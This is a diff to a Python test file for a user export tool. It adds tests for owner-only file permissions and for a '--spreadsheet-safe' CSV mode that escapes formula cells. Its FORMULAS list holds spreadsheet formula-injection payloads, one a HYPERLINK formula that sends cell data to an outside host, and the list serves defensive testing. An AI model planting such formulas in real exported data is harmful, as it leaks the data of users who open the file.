@@ -1,3 +1,4 @@
+import csv
 import errno
 import gc
 import os
@@ -7,6 +8,8 @@ import subprocess
 import sys
 import time
 from collections.abc import Sequence
+from contextlib import nullcontext
+from io import StringIO
 from pathlib import Path
 from typing import Final
 
@@ -14,8 +17,10 @@ import orjson
 import pytest
 
 from application.user_import import Outcome, Parsed, UserImport
+from application.user_records import PlainRecord
 from benchmarks.make_users import FIELDS, lines
 from domain.errors import StorageUnavailable
+from entrypoints.cli.csv_records import write_csv
 from entrypoints.cli.source import Lines
 from tests.cli.commands import PROGRAM, Ended, environment, userport
 from tests.servers.databases import Databases
@@ -297,18 +302,72 @@ def test_an_export_is_complete_or_not_there(sqlite: str, tmp_path: Path) -> None
     assert list(tmp_path.iterdir()) == []
 
 
-def test_an_export_with_hashes_is_for_its_owner_alone_whatever_was_there_before(sqlite: str, tmp_path: Path) -> None:
+@pytest.mark.parametrize("options", [(), ("--with-password-hashes",)])
+def test_an_export_is_for_its_owner_alone_whatever_was_there_before(
+    sqlite: str, tmp_path: Path, options: tuple[str, ...]
+) -> None:
     file, partial = tmp_path / "users.csv", tmp_path / "users.csv.part"
     for there in (file, partial):
         there.write_bytes(b"of another time")
         there.chmod(0o666)
     with partial.open("rb") as of_a_killed_run:
         userport("users", "import", "-", "--storage", sqlite, pipe=b"email,name\nann@example.com,Ann\n")
-        assert userport("users", "export", file, "--storage", sqlite, "--with-password-hashes").exit_code == 0
+        assert userport("users", "export", file, "--storage", sqlite, *options).exit_code == 0
         assert of_a_killed_run.read() == b"of another time"
     assert stat.filemode(file.stat().st_mode) == "-rw-------"
-    assert file.read_text().splitlines()[0].endswith(",updated_at,password_hash")
+    assert file.read_text().splitlines()[0].endswith("password_hash" if options else "updated_at")
     assert not partial.exists()
+
+
+def test_rejects_are_for_their_owner_alone_whatever_was_there_before(sqlite: str, tmp_path: Path) -> None:
+    file = tmp_path / "rejects.ndjson"
+    for there in (False, True):
+        if there:
+            file.write_bytes(b"of another time")
+            file.chmod(0o666)
+        with file.open("rb") if there else nullcontext() as of_another_time:
+            _, refused = imported(sqlite, tmp_path, b"email,name\nann,Ann\n")
+            assert of_another_time is None or of_another_time.read() == b"of another time"
+        assert refused == [(2, "invalid_email")]
+        assert stat.filemode(file.stat().st_mode) == "-rw-------"
+
+
+def test_an_export_and_rejects_go_into_a_device_as_it_is(sqlite: str) -> None:
+    ended = userport(
+        "users", "import", "-", "--storage", sqlite, "--rejects", "/dev/null", pipe=b"email,name\nann,Ann\n"
+    )
+    assert ended.exit_code == 3
+    assert userport("users", "export", "/dev/null", "--storage", sqlite).exit_code == 0
+    assert Path("/dev/null").is_char_device()
+
+
+FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "＝1", "＋1", "－1", "＠a", '=HYPERLINK("https://example.org?"&A1)']
+
+
+def test_a_spreadsheet_runs_nothing_of_a_safe_export(sqlite: str) -> None:
+    plain = ["Ann", "a=1", "'quoted'", "1-2", "$1"]
+    records = [{"email": f"={n}@example.com", "name": name, "bio": name} for n, name in enumerate([*FORMULAS, *plain])]
+    users = b"\n".join(map(orjson.dumps, records))
+    assert userport("users", "import", "-", "--storage", sqlite, pipe=users).text == summary(added=len(records))
+    command = ("users", "export", "--storage", sqlite, "--format", "csv")
+    rows = list(csv.DictReader(userport(*command, "--spreadsheet-safe").text.splitlines()))
+    assert [row["name"] for row in rows] == [*(f"'{formula}" for formula in FORMULAS), *plain]
+    assert [row["bio"] for row in rows] == [row["name"] for row in rows]
+    assert [row["email"] for row in rows] == [f"'={n}@example.com" for n in range(len(records))]
+    as_it_is = list(csv.DictReader(userport(*command).text.splitlines()))
+    assert [row["name"] for row in as_it_is] == [*FORMULAS, *plain]
+
+
+@pytest.mark.parametrize("text", ["\t=1", "\n=1", " \u00a0=1", "\r1"])
+def test_a_formula_hides_behind_no_white_space(text: str) -> None:
+    row: PlainRecord = dict.fromkeys(FIELDS, text)
+    assert {cell[0] for cell in next(csv.reader(StringIO(write_csv([row], spreadsheet_safe=True).decode())))} == {"'"}
+
+
+def test_only_csv_can_be_made_safe_for_spreadsheets(sqlite: str) -> None:
+    ended = userport("users", "export", "--storage", sqlite, "--spreadsheet-safe")
+    assert (ended.exit_code, len(ended.errors.splitlines())) == (2, 1)
+    assert "--format csv" in ended.errors
 
 
 @pytest.mark.slow
